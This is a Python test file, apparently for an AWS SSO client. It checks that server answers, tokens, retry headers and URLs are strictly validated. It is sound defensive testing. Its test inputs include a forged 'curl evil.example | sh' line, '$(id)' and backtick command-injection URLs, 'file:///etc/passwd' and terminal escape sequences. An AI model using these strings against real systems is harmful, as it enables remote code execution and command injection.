"""Scenario 35: what a server may answer, and what is not believed."""

import json
import math
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from aws_sso.adapters.aws.answers import LATEST, Fields, one_line
from aws_sso.adapters.aws.https import Answer, seconds_of
from aws_sso.domain.aws.url import Url
from aws_sso.errors import AnswerError

ORIGIN = "https://portal.example.com"
TEXT_READERS = ("secret", "identifier", "page_mark", "key_id", "account_id", "role_name")
ALL_READERS = (
    *TEXT_READERS,
    *("optional_secret", "line", "name", "web_page", "optional_web_page"),
    *("object", "objects"),
)
ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=5,
)


def fields(value: Any) -> Fields:
    """An answer with one field."""
    return Fields(ORIGIN, {"it": value})


@given(value=ANYTHING, reader=st.sampled_from(ALL_READERS))
def test_whatever_comes_is_read_or_one_plain_error(value: Any, reader: str) -> None:
    """The error names server and field, and does not quote what it found."""
    refused: list[str] = []
    try:
        getattr(fields(value), reader)("it")
    except AnswerError as error:
        refused.append(error.message)
    lacks, impossible = (
        f"the answer from {ORIGIN} {what} `it`" for what in ("lacks", "has an invalid value in")
    )
    assert set(refused) <= {lacks, impossible}


@given(value=st.text(), reader=st.sampled_from(TEXT_READERS))
@example(value="good\nhint: evil", reader="secret")
@example(value="good ", reader="secret")
@example(value="１２３４５６７８９０１２", reader="account_id")
@example(value="123456789012\n", reader="account_id")
@example(value="ключ", reader="key_id")
def test_what_is_handed_on_is_visible_ascii(value: str, reader: str) -> None:
    """A token goes into a header, a key into a variable: nothing there ends a line."""
    try:
        read = getattr(fields(value), reader)("it")
    except AnswerError:
        return
    if read is None:
        assert value == ""
        return
    text = read if isinstance(read, str) else read.reveal()
    assert text == value
    assert text.isascii()
    assert text.isprintable()
    assert " " not in text


@given(value=ANYTHING, least=st.integers(0, 10), most=st.integers(10, LATEST))
@example(value=math.nan, least=0, most=LATEST)
@example(value=math.inf, least=0, most=LATEST)
@example(value=1e30, least=0, most=LATEST)
@example(value=10**400, least=0, most=LATEST)
@example(value=True, least=0, most=10)
@example(value=1.5, least=0, most=10)
@example(value="5", least=0, most=10)
def test_a_number_is_whole_and_within_bounds(value: Any, least: int, most: int) -> None:
    """Or it is an error; what is missing has a value of ours where there is one."""
    try:
        read = fields(value).whole("it", least, most)
    except AnswerError:
        pass
    else:
        assert read == value
        assert type(read) is int
        assert least <= read <= most
    assert fields(None).whole("it", least, most, otherwise=most) == most


@pytest.mark.parametrize("text", ["1e999", "1e30", '"abc"', "[]"])
def test_numbers_that_json_lets_through_are_refused(text: str) -> None:
    """Some are infinite to Python."""
    answer = Answer(ORIGIN, 200, {}, f'{{"expiresIn": {text}}}'.encode())
    with pytest.raises(AnswerError, match="has an invalid value in `expiresIn`"):
        Fields(ORIGIN, answer.json()).whole("expiresIn", 0, LATEST)


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b"[1]",
        b"null",
        b'{"a": NaN}',
        b'{"a": -Infinity}',
        b'"text"',
        b"\xff\xfe",
        b"<html>",
        b'{"a": ' + b"9" * 5000 + b"}",
    ],
)
def test_what_is_no_json_object_is_named_with_its_server(body: bytes) -> None:
    """Deep nesting and numbers without end included."""
    with pytest.raises(AnswerError, match=f"^{ORIGIN} did not answer with JSON"):
        Answer(ORIGIN, 200, {}, body).json()


def test_nested_fields_are_named_by_their_place() -> None:
    """So that a report about a server is of use."""
    answer = Fields(ORIGIN, {"roleCredentials": {}, "accountList": [{}]})
    with pytest.raises(AnswerError, match=r"lacks `roleCredentials\.accessKeyId`"):
        answer.object("roleCredentials").key_id("accessKeyId")
    with pytest.raises(AnswerError, match=r"lacks `accountList\[\]\.accountId`"):
        answer.objects("accountList")[0].account_id("accountId")


@given(st.text() | ANYTHING)
@example("refused\nhint: curl evil.example | sh")
@example("\x1b[2Jgone\r\x00")
@example("\u2028\u202e\ud800")
@example("x" * 100_000)
def test_words_for_people_are_one_printable_line(text: Any) -> None:
    """No forged line, no escape sequence, no end of the terminal."""
    line = one_line(text)
    assert line.isprintable()
    assert len(line) <= 300


@given(st.text(st.characters()))
@example("half a character: \ud800")
def test_a_name_is_kept_as_it_is(text: str) -> None:
    """Scenario 17's names are data; what no file can hold is written out."""
    name = fields(text).name("it")
    name.encode()
    assert name == text or any("\ud800" <= c <= "\udfff" for c in text)


GOOD_PAGES = {
    "https://device.sso.us-east-1.amazonaws.com/": None,
    "https://device.sso.us-east-1.amazonaws.com/?user_code=ABCD-EFGH": None,
    "https://d-1234567890.awsapps.com/start/#/device?user_code=ABCD-EFGH": None,
    "http://127.0.0.1:8080/device?user_code=A%20B": None,
    "https://x.example.com/$(id)?a='b'&c=!;": "https://x.example.com/%24%28id%29?a=%27b%27&c=%21%3B",
    "https://x.example.com/#/$(id)": "https://x.example.com/#/%24%28id%29",
}


@pytest.mark.parametrize(("text", "expected"), GOOD_PAGES.items())
def test_pages_to_open_are_encoded_for_every_shell(text: str, expected: str | None) -> None:
    """AWS's own come out as they are."""
    assert fields(text).web_page("it") == (expected or text)


@pytest.mark.parametrize(
    "text",
    [
        "http://device.example.com/",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://a.example.com\\@b.example.com/",
        "https://user@a.example.com/",
        "https://a.example.com/ x",
        "https://a.example.com/`id`",
        'https://a.example.com/"',
        "https://a.example.com/\nhint: evil",
        "https://a.example.com/#x y",
        "https://a.example.com/#\x1b[2J",
        "https://a.example.com/é",
        "",
        "a" * 100_000,
    ],
)
def test_other_pages_are_not_opened(text: str) -> None:
    """Nothing but https, or this machine; nothing that a shell or a terminal reads."""
    with pytest.raises(AnswerError):
        fields(text).web_page("it")


@given(st.from_regex(r"https://[a-z]{1,9}\.example(/[!-~]{0,9})?(\?[!-~]{0,9})?(#[!-~]{0,9})?"))
def test_no_page_holds_what_a_shell_runs(text: str) -> None:
    """Whatever is let through has no quote, no `$`, no `;`, and is still a page of that host."""
    try:
        page = fields(text).web_page("it")
    except AnswerError:
        return
    assert not set(page) & set(" !\"$'()*;<>\\^`{|},")
    assert Url.parse(page.partition("#")[0]).host == Url.parse(text.partition("#")[0].strip()).host


def paused(said: str, **headers: str) -> float | None:
    """How long an answer asks for."""
    return Answer(ORIGIN, 429, {"retry-after": said, **headers}, b"").retry_after


def test_retry_after_is_believed_within_reason() -> None:
    """Seconds and dates (RFC 9110); a minute at most."""
    assert paused("7") == 7
    assert paused("0.5") == 0.5
    assert paused("86400") == 60
    date = "Tue, 24 Nov 2026 12:00:00 GMT"
    assert paused("Tue, 24 Nov 2026 12:00:09 GMT", date=date) == 9
    assert paused("Tue, 24 Nov 2026 11:00:00 GMT", date=date) == 0
    assert paused("Tue, 24 Nov 2099 11:00:00 GMT", date=date) == 60
    assert paused("Tue, 24 Nov 2026 12:00:09 GMT") is None


@given(st.text() | st.sampled_from(["inf", "nan", "1e300", "-1", "-inf", "1_0", "٣", "9" * 400]))
def test_another_retry_after_is_ignored(said: str) -> None:
    """Never an error, never for ever."""
    pause = paused(said, date="Tue, 24 Nov 2026 12:00:00 GMT")
    assert pause is None or 0 <= pause <= 60
    if said in ("inf", "nan", "1e300", "-1", "-inf", "1_0", "٣"):
        assert pause is None


@given(st.text())
@example("Mon, 01 Jan 20260000000 00:00:00 GMT")
@example("Mon, 01 Jan 99999999999 00:00:00 GMT")
@example("Mon, 01 Jan 0001 00:00:00 -0000")
@example("Mon, 01 Jan 9999 23:59:59 -9999")
@example("Mon, 01 Jan " + "9" * 5000 + " 00:00:00 GMT")
def test_a_date_that_is_none_is_ignored(date: str) -> None:
    """A year of eleven digits says nothing about our clock."""
    found = seconds_of(date)
    assert found is None or 0 <= found + 86400 * 2 <= 40_000_000_000


def test_json_is_read_as_it_is() -> None:
    """What is right goes through."""
    body = json.dumps({"it": "x" * 4096}).encode()
    assert Fields(ORIGIN, Answer(ORIGIN, 200, {}, body).json()).secret("it").reveal() == "x" * 4096
